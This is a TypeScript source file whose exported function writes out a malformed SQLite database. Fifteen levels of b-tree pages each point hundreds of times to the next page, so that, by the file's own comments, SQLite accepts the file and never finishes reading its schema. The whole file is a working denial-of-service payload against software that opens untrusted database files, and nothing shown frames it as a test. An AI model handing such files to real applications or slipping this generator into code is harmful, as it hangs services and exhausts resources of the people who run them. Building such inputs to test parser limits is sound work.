const PAGE = 4096;
/** Levels of pages, each of which names the next one some hundred times; SQLite goes no deeper than 20. */
const LEVELS = 15;

/** A database file that SQLite takes for sound and never finishes reading: its schema alone has 500 rows to the power 15. */
export function endlessDatabase(): Uint8Array {
  const bytes = Buffer.alloc(PAGE * (LEVELS + 1));
  bytes.write('SQLite format 3\0', 0, 'latin1');
  bytes.writeUInt16BE(PAGE, 16);
  bytes.set([1, 1, 0, 64, 32, 32], 18);
  bytes.writeUInt32BE(1, 24);
  bytes.writeUInt32BE(LEVELS + 1, 28);
  bytes.writeUInt32BE(4, 44);
  bytes.writeUInt32BE(1, 56);
  bytes.writeUInt32BE(1, 92);
  for (let level = 0; level < LEVELS; level++) {
    const start = level === 0 ? 100 : 0;
    writeInterior(bytes.subarray(level * PAGE, (level + 1) * PAGE), start, level + 2);
  }
  writeLeaf(bytes.subarray(LEVELS * PAGE));
  return bytes;
}

/** https://www.sqlite.org/fileformat2.html#b_tree_pages */
function writeInterior(page: Buffer, start: number, child: number): void {
  const cells = Math.floor((PAGE - start - 12) / 7);
  page[start] = 0x05;
  page.writeUInt16BE(cells, start + 3);
  page.writeUInt16BE(PAGE - cells * 5, start + 5);
  page.writeUInt32BE(child, start + 8);
  for (let cell = 0; cell < cells; cell++) {
    const at = PAGE - (cell + 1) * 5;
    page.writeUInt16BE(at, start + 12 + 2 * cell);
    page.writeUInt32BE(child, at);
    page[at + 4] = 1;
  }
}

function writeLeaf(page: Buffer): void {
  // type, name, tbl_name, rootpage and sql, all null.
  const cell = [6, 1, 6, 0, 0, 0, 0, 0];
  page[0] = 0x0d;
  page.writeUInt16BE(1, 3);
  page.writeUInt16BE(PAGE - cell.length, 5);
  page.writeUInt16BE(PAGE - cell.length, 8);
  page.set(cell, PAGE - cell.length);
}
